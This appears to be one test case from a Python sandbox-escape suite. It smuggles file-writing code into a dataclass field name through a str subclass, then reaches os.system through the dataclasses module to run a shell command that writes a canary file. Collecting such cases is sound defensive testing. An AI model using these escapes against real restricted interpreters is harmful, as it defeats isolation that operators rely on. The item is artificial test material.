# id: 584
# name: dataclass_made_of_text
# category: interpreter
# technique: dataclasses.make_dataclass with a type that is code
# breach: file
# looks_like: CANARY_FILE is created
# imports: dataclasses
# baseline: inproc
import dataclasses
class N(str):
    def isidentifier(self): return True
    def __format__(self, s): return str.__str__(self)
try:
    dataclasses.make_dataclass('D', [(N('x=[open("%s","w").write("x")]' % CANARY_FILE), int)])
except Exception as e:
    print(repr(e)[:200])
import dataclasses as d
d.sys.modules['os'].system('echo breach > ' + CANARY_FILE)
